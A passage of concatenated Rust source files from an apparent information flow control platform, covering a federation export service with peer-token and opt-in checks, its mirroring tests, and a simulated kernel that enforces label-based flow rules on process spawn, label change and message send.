        assert_eq!(serde_json::from_str::<ExportBatch>(&json).unwrap(), b);
    }

    #[test]
    fn legacy_batch_without_dictionary_still_parses() {
        // A peer predating the label dictionary omits both new fields.
        let json = r#"{"user":"bob","provider":"A","records":[
            {"path":"/x","version":1,"data_hex":"31"}]}"#;
        let b: ExportBatch = serde_json::from_str(json).unwrap();
        assert!(b.labels_hex.is_empty());
        assert_eq!(b.records[0].label_ref, None);
        assert!(b.decode_labels().unwrap().is_empty());
    }

    #[test]
    fn label_dict_dedups_by_interned_pair() {
        use w5_difc::{Label, LabelPair, Tag};
        let pa = LabelPair::new(Label::singleton(Tag::from_raw(11)), Label::singleton(Tag::from_raw(12)));
        let pb = LabelPair::public();
        let mut dict = LabelDict::new();
        let r0 = dict.intern(&pa);
        let r1 = dict.intern(&pb);
        let r2 = dict.intern(&pa);
        assert_eq!(r0, r2, "same pair, same index");
        assert_ne!(r0, r1);
        let mut rec = ExportRecord::new("/x", 1, b"1");
        rec.label_ref = Some(r0);
        let batch = ExportBatch {
            user: "bob".into(),
            provider: "A".into(),
            records: vec![rec],
            labels_hex: dict.into_entries(),
        };
        let json = serde_json::to_string(&batch).unwrap();
        let back: ExportBatch = serde_json::from_str(&json).unwrap();
        let labels = back.decode_labels().unwrap();
        assert_eq!(labels.len(), 2);
        assert_eq!(labels[back.records[0].label_ref.unwrap() as usize], pa);
        assert_eq!(labels[1], pb);
    }

    #[test]
    fn decode_labels_rejects_garbage() {
        let batch = ExportBatch {
            user: "bob".into(),
            provider: "A".into(),
            records: Vec::new(),
            labels_hex: vec!["zz".into()],
        };
        assert!(batch.decode_labels().is_err());
    }
}
