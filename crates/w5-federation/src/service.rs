//! The export side: serves a user's own-labeled files to a peer provider.

use crate::protocol::{ExportBatch, ExportRecord, FEDERATION_TOKEN_HEADER};
use crate::FEDERATION_DECLASSIFIER;
use std::net::SocketAddr;
use std::sync::Arc;
use w5_platform::{GrantScope, Platform};
use w5_store::Subject;
use w5_net::{Handler, Method, Request, Response, Status};

/// HTTP handler exposing `GET /federation/export?user=<name>` to peers
/// presenting the shared secret.
pub struct FederationService {
    platform: Arc<Platform>,
    peer_token: String,
}

impl FederationService {
    /// Wrap a platform with a peering secret.
    pub fn new(platform: Arc<Platform>, peer_token: &str) -> FederationService {
        FederationService { platform, peer_token: peer_token.to_string() }
    }

    /// Has `user` opted into federation by granting the declassifier?
    fn user_opted_in(&self, user_id: w5_platform::UserId) -> bool {
        let policy = self.platform.policies.get(user_id);
        policy.is_granted(FEDERATION_DECLASSIFIER, "w5/federation")
    }

    fn export(&self, req: &Request) -> Response {
        // Peer authentication.
        if req.header(FEDERATION_TOKEN_HEADER) != Some(self.peer_token.as_str()) {
            return Response::error(Status::UNAUTHORIZED, "bad peer token");
        }
        let Some(username) = req.query_param("user") else {
            return Response::error(Status::BAD_REQUEST, "user required");
        };
        let Some(account) = self.platform.accounts.get_by_name(&username) else {
            return Response::error(Status::NOT_FOUND, "no such user");
        };
        // The user must have granted the import/export declassifier —
        // without it, the perimeter stays closed to the peer too.
        if !self.user_opted_in(account.id) {
            return Response::error(Status::FORBIDDEN, "user has not granted federation-export");
        }

        // Select the user's data *by labels*: exactly the files whose
        // secrecy is {e_u}. The exporting subject wields the user's own
        // capabilities (the grant the user handed the declassifier).
        let subject = Subject::new(
            w5_difc::LabelPair::public(),
            self.platform.registry.effective(&account.owner_caps),
        );
        // Hoist the selection label out of the loop and compare by
        // interned id: per-entry selection is an integer compare.
        let export_secrecy =
            w5_difc::intern::intern(&w5_difc::Label::singleton(account.export_tag));
        // Child of the server's HTTP root span (None when driven directly
        // in tests); labeled with the union of everything exported.
        let mut trace_span = w5_obs::span_if_active(
            &format!("federation.export {username}"),
            w5_obs::Layer::Net,
            &w5_obs::ObsLabel::empty(),
        );
        let mut records = Vec::new();
        let mut dict = crate::protocol::LabelDict::new();
        if let Ok(entries) = self.platform.fs.list_recursive(&subject, "/") {
            for meta in entries {
                if w5_difc::intern::intern(&meta.labels.secrecy) == export_secrecy {
                    if let Ok((data, _)) = self.platform.fs.read(&subject, &meta.path) {
                        if let Some(s) = trace_span.as_mut() {
                            s.add_secrecy(&meta.labels.secrecy.to_obs());
                        }
                        let mut rec = ExportRecord::new(&meta.path, meta.version, &data);
                        rec.label_ref = Some(dict.intern(&meta.labels));
                        records.push(rec);
                    }
                }
            }
        }
        drop(trace_span);
        let batch = ExportBatch {
            user: username.clone(),
            provider: self.platform.name.clone(),
            records,
            labels_hex: dict.into_entries(),
        };
        match serde_json::to_string(&batch) {
            Ok(json) => Response::json(json),
            Err(_) => Response::error(Status::INTERNAL_ERROR, "serialization failed"),
        }
    }
}

impl Handler for FederationService {
    fn handle(&self, request: Request, _peer: SocketAddr) -> Response {
        match (request.method, request.path.as_str()) {
            (Method::Get, "/federation/export") => self.export(&request),
            _ => Response::error(Status::NOT_FOUND, "no such federation route"),
        }
    }
}

/// Convenience: record a user's opt-in grant the way the gateway would.
pub fn opt_in(platform: &Platform, user: w5_platform::UserId) {
    platform.policies.grant_declassifier(
        user,
        FEDERATION_DECLASSIFIER,
        GrantScope::App("w5/federation".into()),
    );
}
