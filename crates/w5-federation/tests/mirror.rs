//! Two providers over real TCP: opt-in mirroring, bidirectional
//! convergence, and refusal paths.

use bytes::Bytes;
use std::sync::Arc;
use w5_federation::service::opt_in;
use w5_federation::{AccountLink, FederationService, SyncAgent, FEDERATION_TOKEN_HEADER};
use w5_net::{HttpClient, Server, ServerConfig};
use w5_platform::{Account, Platform};
use w5_store::Subject;

const TOKEN: &str = "peering-secret-123";

struct Provider {
    platform: Arc<Platform>,
    server: w5_net::ServerHandle,
}

impl Provider {
    fn start(name: &str) -> Provider {
        let platform = Platform::new_default(name);
        let svc = FederationService::new(Arc::clone(&platform), TOKEN);
        let server = Server::start("127.0.0.1:0", ServerConfig::default(), Arc::new(svc)).unwrap();
        Provider { platform, server }
    }

    fn subject_for(&self, account: &Account) -> Subject {
        Subject::new(
            w5_difc::LabelPair::public(),
            self.platform.registry.effective(&account.owner_caps),
        )
    }

    fn put(&self, account: &Account, path: &str, data: &[u8]) {
        let subject = self.subject_for(account);
        match self.platform.fs.write(&subject, path, Bytes::copy_from_slice(data)) {
            Ok(()) => {}
            Err(w5_store::FsError::NotFound) => self
                .platform
                .fs
                .create(&subject, path, account.data_labels(), Bytes::copy_from_slice(data))
                .unwrap(),
            Err(e) => panic!("{e}"),
        }
    }

    fn get(&self, account: &Account, path: &str) -> Option<Vec<u8>> {
        let subject = self.subject_for(account);
        self.platform.fs.read(&subject, path).ok().map(|(d, _)| d.to_vec())
    }
}

#[test]
fn mirror_requires_opt_in_and_converges() {
    let a = Provider::start("provider-a");
    let b = Provider::start("provider-b");
    let bob_a = a.platform.accounts.register("bob", "pw").unwrap();
    let bob_b = b.platform.accounts.register("bob", "pw").unwrap();

    a.put(&bob_a, "/photos/bob/cat.img", b"CAT-V1");
    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };
    let agent_b = SyncAgent::new(Arc::clone(&b.platform), TOKEN);

    // Without the grant, provider A refuses the peer.
    let err = agent_b.pull(a.server.addr(), &link).unwrap_err();
    assert!(
        matches!(err, w5_federation::SyncError::Refused { status: 403, .. }),
        "{err}"
    );

    // Bob opts in on A; the pull mirrors his photo to B.
    opt_in(&a.platform, bob_a.id);
    let r = agent_b.pull(a.server.addr(), &link).unwrap();
    assert_eq!(r.created, 1);
    assert_eq!(b.get(&bob_b, "/photos/bob/cat.img").unwrap(), b"CAT-V1");

    // The mirrored copy carries B-side labels (B's tags, not A's).
    let subject = b.subject_for(&bob_b);
    let meta = b.platform.fs.stat(&subject, "/photos/bob/cat.img").unwrap();
    assert!(meta.labels.secrecy.contains(bob_b.export_tag));

    // Re-pull: converged, nothing to do.
    let r = agent_b.pull(a.server.addr(), &link).unwrap();
    assert_eq!(r.unchanged, 1);
    assert_eq!(r.created + r.updated, 0);

    // Update on A propagates as an update.
    a.put(&bob_a, "/photos/bob/cat.img", b"CAT-V2");
    let r = agent_b.pull(a.server.addr(), &link).unwrap();
    assert_eq!(r.updated, 1);
    assert_eq!(b.get(&bob_b, "/photos/bob/cat.img").unwrap(), b"CAT-V2");

    a.server.shutdown();
    b.server.shutdown();
}

#[test]
fn bidirectional_mirror_converges_without_ping_pong() {
    let a = Provider::start("a");
    let b = Provider::start("b");
    let bob_a = a.platform.accounts.register("bob", "pw").unwrap();
    let bob_b = b.platform.accounts.register("bob", "pw").unwrap();
    opt_in(&a.platform, bob_a.id);
    opt_in(&b.platform, bob_b.id);

    a.put(&bob_a, "/notes/from-a", b"alpha");
    b.put(&bob_b, "/notes/from-b", b"beta");

    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };
    let agent_a = SyncAgent::new(Arc::clone(&a.platform), TOKEN);
    let agent_b = SyncAgent::new(Arc::clone(&b.platform), TOKEN);

    // One round each direction.
    agent_b.pull(a.server.addr(), &link).unwrap();
    agent_a.pull(b.server.addr(), &link).unwrap();
    assert_eq!(a.get(&bob_a, "/notes/from-b").unwrap(), b"beta");
    assert_eq!(b.get(&bob_b, "/notes/from-a").unwrap(), b"alpha");

    // Second round: fully converged — nothing created or updated.
    let rb = agent_b.pull(a.server.addr(), &link).unwrap();
    let ra = agent_a.pull(b.server.addr(), &link).unwrap();
    assert_eq!(rb.created + rb.updated, 0, "{rb:?}");
    assert_eq!(ra.created + ra.updated, 0, "{ra:?}");

    a.server.shutdown();
    b.server.shutdown();
}

#[test]
fn only_the_linked_users_own_data_crosses() {
    let a = Provider::start("a");
    let b = Provider::start("b");
    let bob_a = a.platform.accounts.register("bob", "pw").unwrap();
    let alice_a = a.platform.accounts.register("alice", "pw").unwrap();
    let _bob_b = b.platform.accounts.register("bob", "pw").unwrap();
    opt_in(&a.platform, bob_a.id);
    // alice has NOT opted in.
    a.put(&bob_a, "/notes/bob-note", b"bob data");
    a.put(&alice_a, "/notes/alice-note", b"alice data");

    let agent_b = SyncAgent::new(Arc::clone(&b.platform), TOKEN);
    let link = AccountLink { remote_user: "bob".into(), local_user: "bob".into() };
    let r = agent_b.pull(a.server.addr(), &link).unwrap();
    // Only bob's file crossed: selection is by labels.
    assert_eq!(r.examined, 1);
    assert_eq!(b.platform.fs.file_count(), 1);

    // Pulling alice without her grant fails.
    let alice_link = AccountLink { remote_user: "alice".into(), local_user: "bob".into() };
    assert!(agent_b.pull(a.server.addr(), &alice_link).is_err());

    a.server.shutdown();
    b.server.shutdown();
}

#[test]
fn wrong_token_and_unknown_user_refused() {
    let a = Provider::start("a");
    let bob = a.platform.accounts.register("bob", "pw").unwrap();
    opt_in(&a.platform, bob.id);

    let c = HttpClient::new();
    // Wrong token.
    let resp = c
        .get_with_headers(
            a.server.addr(),
            "/federation/export?user=bob",
            &[(FEDERATION_TOKEN_HEADER, "wrong")],
        )
        .unwrap();
    assert_eq!(resp.status.0, 401);
    // Unknown user.
    let resp = c
        .get_with_headers(
            a.server.addr(),
            "/federation/export?user=ghost",
            &[(FEDERATION_TOKEN_HEADER, TOKEN)],
        )
        .unwrap();
    assert_eq!(resp.status.0, 404);
    // Unknown route.
    let resp = c.get(a.server.addr(), "/federation/nope").unwrap();
    assert_eq!(resp.status.0, 404);

    a.server.shutdown();
}
