//! The kernel system-call surface as a trait.
//!
//! [`Syscalls`] abstracts over the two kernel implementations in this
//! crate — the sharded [`crate::Kernel`] and the single-lock
//! [`crate::reference::ReferenceKernel`] — so the differential
//! concurrency oracle in `w5-sim` can replay one seeded operation
//! schedule against both and compare every observable: final labels,
//! capability bags, mailbox depths, flow-decision counters, ledger
//! aggregates.
//!
//! The trait deliberately covers only the syscalls a process (or the
//! platform acting for one) can issue. Trusted plumbing that is an
//! implementation detail of one kernel or the other (shard counts,
//! epoch refill, resource charging internals) stays on the concrete
//! types.

use crate::ids::ProcessId;
use crate::kernel::{Delivery, KernelResult, KernelStats, SpawnSpec};
use crate::message::Message;
use crate::process::ProcessInfo;
use crate::resource::ResourceLimits;
use bytes::Bytes;
use std::sync::Arc;
use w5_difc::{CapSet, LabelPair, Tag, TagKind, TagRegistry};

/// The kernel syscall surface shared by [`crate::Kernel`] and
/// [`crate::reference::ReferenceKernel`].
///
/// `Send + Sync` is part of the contract: the differential oracle calls
/// these from real OS threads.
pub trait Syscalls: Send + Sync {
    /// The shared tag registry.
    fn registry(&self) -> &Arc<TagRegistry>;
    /// Trusted process creation at arbitrary labels.
    fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId;
    /// Spawn a child under Flume's spawn rules.
    fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId>;
    /// Snapshot of a process's public metadata.
    fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo>;
    /// Current labels of a process.
    fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair>;
    /// The process's private capability bag.
    fn caps(&self, pid: ProcessId) -> KernelResult<CapSet>;
    /// Create a tag on behalf of a process.
    fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag>;
    /// Change a process's own labels (safe-change rule).
    fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()>;
    /// Permanently drop capabilities from the private bag.
    fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()>;
    /// Add capabilities to the private bag (trusted entry point).
    fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()>;
    /// Send with silent-drop semantics.
    fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery>;
    /// Send with the flow decision surfaced (trusted callers only).
    fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()>;
    /// Dequeue the next message, merging any grant.
    fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>>;
    /// Taint-on-read: raise the process's labels to admit `data`.
    fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()>;
    /// Would a write to an object labeled `obj` be admissible?
    fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()>;
    /// Terminate a process.
    fn exit(&self, pid: ProcessId) -> KernelResult<()>;
    /// Remove a dead process from the table.
    fn reap(&self, pid: ProcessId) -> KernelResult<()>;
    /// Number of live (non-dead) processes.
    fn live_processes(&self) -> usize;
    /// Flow-decision counters.
    fn stats(&self) -> KernelStats;
}
