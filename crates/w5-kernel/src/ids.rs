//! Kernel object identifiers.

use std::fmt;

/// Identifier of a kernel process. Never reused within one kernel instance.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ProcessId(pub u64);

impl ProcessId {
    /// The raw id.
    pub fn raw(self) -> u64 {
        self.0
    }
}

impl fmt::Debug for ProcessId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "pid{}", self.0)
    }
}

impl fmt::Display for ProcessId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "pid{}", self.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display() {
        assert_eq!(format!("{}", ProcessId(3)), "pid3");
        assert_eq!(format!("{:?}", ProcessId(3)), "pid3");
    }

    #[test]
    fn ordering() {
        assert!(ProcessId(1) < ProcessId(2));
    }
}
