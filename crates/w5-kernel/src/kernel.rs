//! The kernel proper: process table and system-call surface.
//!
//! All flow enforcement funnels through here. The platform (`w5-platform`)
//! is the only trusted caller; applications reach the kernel exclusively
//! through the platform's API object, which passes their [`ProcessId`]
//! along so every operation is checked against *their* labels, not the
//! platform's.

use crate::ids::ProcessId;
use crate::message::Message;
use crate::process::{Process, ProcessInfo, ProcessState};
use crate::resource::{QuotaExceeded, ResourceContainer, ResourceKind, ResourceLimits, ResourceUsage};
use bytes::Bytes;
use parking_lot::Mutex;
use std::collections::HashMap;
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use w5_difc::{
    rules, CapSet, Capability, DifcError, LabelPair, Tag, TagKind, TagRegistry,
};

/// Errors surfaced by kernel syscalls.
///
/// Note that [`Kernel::send`] deliberately does *not* surface
/// [`KernelError::Difc`] — see the crate docs on covert-channel hygiene.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum KernelError {
    /// The process id is unknown.
    NoSuchProcess(ProcessId),
    /// The process has exited.
    ProcessDead(ProcessId),
    /// A flow rule refused the operation.
    Difc(DifcError),
    /// A resource quota refused the operation.
    Quota(QuotaExceeded),
    /// A capability grant included capabilities the granter does not hold.
    GrantNotHeld,
    /// A deterministic fault-injection site fired (`w5-chaos`). Transient:
    /// the operation had no effect and may be retried.
    Injected(&'static str),
}

impl fmt::Display for KernelError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            KernelError::NoSuchProcess(p) => write!(f, "no such process {p}"),
            KernelError::ProcessDead(p) => write!(f, "process {p} has exited"),
            KernelError::Difc(e) => write!(f, "flow control: {e}"),
            KernelError::Quota(e) => write!(f, "resource: {e}"),
            KernelError::GrantNotHeld => write!(f, "grant includes capabilities not held"),
            KernelError::Injected(site) => write!(f, "injected fault at {site}"),
        }
    }
}

impl std::error::Error for KernelError {}

impl From<DifcError> for KernelError {
    fn from(e: DifcError) -> Self {
        KernelError::Difc(e)
    }
}

impl From<QuotaExceeded> for KernelError {
    fn from(e: QuotaExceeded) -> Self {
        KernelError::Quota(e)
    }
}

/// Result alias for kernel syscalls.
pub type KernelResult<T> = Result<T, KernelError>;

/// Outcome of a (non-strict) send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Delivery {
    /// The message was queued at the receiver.
    Delivered,
    /// The message was silently dropped (flow violation). The *sender* is
    /// never told which; this value is only observable by trusted code that
    /// also owns the receiver.
    Dropped,
}

/// Parameters for [`Kernel::spawn`].
#[derive(Clone, Debug)]
pub struct SpawnSpec {
    /// Audit name for the child.
    pub name: String,
    /// Labels the child starts with. Must be safely reachable from the
    /// parent's labels given the parent's effective capabilities.
    pub labels: LabelPair,
    /// Capabilities granted to the child. Must be a subset of the parent's
    /// effective capabilities.
    pub grant: CapSet,
    /// Resource limits for the child's container.
    pub limits: ResourceLimits,
}

/// Flow-decision counters, for the evaluation harnesses.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct KernelStats {
    /// Messages checked for delivery.
    pub sends_checked: u64,
    /// Messages dropped by flow rules.
    pub sends_dropped: u64,
    /// Label changes attempted.
    pub label_changes: u64,
    /// Label changes refused.
    pub label_changes_denied: u64,
}

struct Inner {
    procs: HashMap<ProcessId, Process>,
    stats: KernelStats,
}

/// The simulated DIFC kernel. Cheap to share: `Kernel` is `Clone` and all
/// clones view the same machine.
#[derive(Clone)]
pub struct Kernel {
    registry: Arc<TagRegistry>,
    inner: Arc<Mutex<Inner>>,
    next_pid: Arc<AtomicU64>,
}

impl Kernel {
    /// A fresh machine sharing the given tag registry.
    pub fn new(registry: Arc<TagRegistry>) -> Kernel {
        Kernel {
            registry,
            inner: Arc::new(Mutex::new(Inner {
                procs: HashMap::new(),
                stats: KernelStats::default(),
            })),
            next_pid: Arc::new(AtomicU64::new(1)),
        }
    }

    /// The shared tag registry.
    pub fn registry(&self) -> &Arc<TagRegistry> {
        &self.registry
    }

    /// Trusted process creation (used by the platform for launchers,
    /// exporters and app instances). No reachability check: the platform
    /// decides initial labels per user policy.
    pub fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId {
        let id = ProcessId(self.next_pid.fetch_add(1, Ordering::Relaxed));
        let pair = labels.interned();
        let obs_secrecy = pair.secrecy.to_obs();
        // Child span inside an active sampled trace (e.g. an app launch
        // under `platform.invoke`); a single thread-local read otherwise.
        let mut trace_span = w5_obs::span_if_active(
            "kernel.create_process",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        let proc = Process {
            id,
            name: name.to_string(),
            labels,
            pair,
            caps,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(limits),
            parent: None,
        };
        self.inner.lock().procs.insert(id, proc);
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: 0, name: name.to_string() },
        );
        id
    }

    /// Spawn a child from an existing process, enforcing Flume's spawn
    /// rules: child labels must be a safe change away from the parent's,
    /// and the grant must be covered by the parent's effective caps.
    pub fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId> {
        // Fault injection happens before any state changes: a failed spawn
        // must leave no trace of the child.
        if w5_chaos::inject(w5_chaos::Site::KernelSpawn).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSpawn.as_str()));
        }
        // Child span only inside an already-sampled trace: outside one this
        // is a single thread-local read. The label (the child's secrecy) is
        // unioned in below, once it is interned anyway.
        let mut trace_span = w5_obs::span_if_active(
            "kernel.spawn",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get(&parent)
            .ok_or(KernelError::NoSuchProcess(parent))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(parent));
        }
        // Fast path: a child at the parent's exact labels with no grant
        // (the dominant spawn shape) is trivially safe — `safe_change` of
        // a label to itself always passes — so the effective-bag union
        // and capability algebra are skipped entirely.
        let spec_pair = spec.labels.interned();
        if spec_pair != p.pair || !spec.grant.is_empty() {
            let eff = self.registry.effective(&p.caps);
            rules::safe_change(&p.labels.secrecy, &spec.labels.secrecy, &eff)?;
            rules::safe_change(&p.labels.integrity, &spec.labels.integrity, &eff)?;
            if !spec.grant.is_subset(&eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }
        let id = ProcessId(self.next_pid.fetch_add(1, Ordering::Relaxed));
        let obs_secrecy = spec_pair.secrecy.to_obs();
        let child_name = spec.name.clone();
        let child = Process {
            id,
            name: spec.name,
            labels: spec.labels,
            pair: spec_pair,
            caps: spec.grant,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(spec.limits),
            parent: Some(parent),
        };
        inner.procs.insert(id, child);
        drop(inner);
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: parent.0, name: child_name },
        );
        Ok(id)
    }

    /// Snapshot of a process's public metadata.
    pub fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(Process::info)
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Current labels of a process.
    pub fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.labels.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's *private* capability bag.
    pub fn caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.caps.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's effective capability set (private ∪ global bag).
    pub fn effective_caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        let caps = self.caps(pid)?;
        Ok(self.registry.effective(&caps))
    }

    /// Create a tag on behalf of a process; the creator capabilities enter
    /// the process's private bag, and the public half enters the global bag.
    pub fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag> {
        // Allocate outside the process-table lock; the registry has its own.
        let (tag, creator_caps) = self.registry.create_tag(kind, name);
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        p.caps.extend(&creator_caps);
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::TagGrant { pid: pid.0, tag: tag.raw() },
        );
        Ok(tag)
    }

    /// Change a process's own labels, subject to the safe-change rule.
    pub fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        inner.stats.label_changes += 1;
        let registry = Arc::clone(&self.registry);
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        let eff = registry.effective(&p.caps);
        let check = rules::safe_change(&p.labels.secrecy, &new.secrecy, &eff)
            .and_then(|()| rules::safe_change(&p.labels.integrity, &new.integrity, &eff));
        match check {
            Ok(()) => {
                p.set_labels(new);
                Ok(())
            }
            Err(e) => {
                inner.stats.label_changes_denied += 1;
                Err(e.into())
            }
        }
    }

    /// Permanently drop capabilities from a process's private bag
    /// (privilege shedding before running untrusted code).
    pub fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        for c in caps.iter() {
            p.caps.remove(c);
        }
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "drop".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Add capabilities to a process's private bag. Trusted (platform)
    /// entry point, used when a user's policy grants a declassifier
    /// privileges over the user's tags.
    pub fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.caps.extend(caps);
        drop(inner);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "grant".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Send a message. Delivery is checked against flow rules; on refusal
    /// the message is **silently dropped** and `Ok(Delivery::Dropped)` is
    /// returned. Untrusted callers must not branch on the returned value —
    /// the platform API hides it from applications.
    pub fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery> {
        match self.send_strict(from, to, payload, grant) {
            Ok(()) => Ok(Delivery::Delivered),
            Err(KernelError::Difc(_)) => Ok(Delivery::Dropped),
            Err(e) => Err(e),
        }
    }

    /// Send with the flow decision surfaced. Only trusted components may
    /// call this; the platform never exposes it to applications.
    pub fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()> {
        // Transient IPC failure: injected before the flow check so neither
        // counters nor mailboxes move — the message simply never happened.
        if w5_chaos::inject(w5_chaos::Site::KernelSend).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSend.as_str()));
        }
        // Child span only inside an already-sampled trace; the sender's
        // secrecy is unioned in once snapshotted (below).
        let mut trace_span = w5_obs::span_if_active(
            "kernel.send",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        let mut inner = self.inner.lock();
        inner.stats.sends_checked += 1;
        let registry = Arc::clone(&self.registry);

        // Snapshot sender state.
        let (s_labels, s_pair, s_caps) = {
            let p = inner
                .procs
                .get(&from)
                .ok_or(KernelError::NoSuchProcess(from))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(from));
            }
            (p.labels.clone(), p.pair, p.caps.clone())
        };
        // The effective bag is an allocating union with the global bag;
        // compute it only when a grant must be validated (the empty grant
        // is the common case) or the interned fast path below misses.
        let mut s_eff = None;
        if !grant.is_empty() {
            let eff = s_eff.insert(registry.effective(&s_caps));
            if !grant.is_subset(eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }

        // Receiver state.
        let r_pair = {
            let p = inner.procs.get(&to).ok_or(KernelError::NoSuchProcess(to))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(to));
            }
            p.pair
        };

        // Delivery is checked against the receiver's labels *as they stand*:
        // a receiver that wants high-secrecy data must raise its label first
        // (Flume's endpoint discipline). Only the sender's privileges adjust
        // the comparison — if the receiver's effective `t+` were consulted
        // here, any process could absorb export-protected data while staying
        // unlabeled, which is exactly the laundering W5 must prevent.
        //
        // Fast path: if the zero-privilege flow already holds — sender
        // secrecy ⊆ receiver secrecy and receiver integrity ⊆ sender
        // integrity, both memoized id-level subset probes — the privileged
        // rule holds a fortiori (privileges only ever relax it), so the
        // capability algebra is skipped.
        let fast_ok = w5_difc::intern::subset(s_pair.secrecy, r_pair.secrecy)
            && w5_difc::intern::subset(r_pair.integrity, s_pair.integrity);
        let flow = if fast_ok {
            // Ledger parity with the slow path, which counts one "flow"
            // check inside `can_flow_with`.
            w5_obs::count_check("flow", true, &s_pair.secrecy.to_obs());
            Ok(())
        } else {
            let eff = match &s_eff {
                Some(eff) => eff,
                None => s_eff.insert(registry.effective(&s_caps)),
            };
            let r_labels = r_pair.resolve();
            // Secrecy: sender may shed tags it can declassify.
            rules::can_flow_with(&s_labels.secrecy, eff, &r_labels.secrecy, &CapSet::empty())
                // Integrity: every claim the receiver holds must be carried
                // or endorsable by the sender.
                .and(rules::integrity_flow_with(
                    &s_labels.integrity,
                    eff,
                    &r_labels.integrity,
                    &CapSet::empty(),
                ))
        };
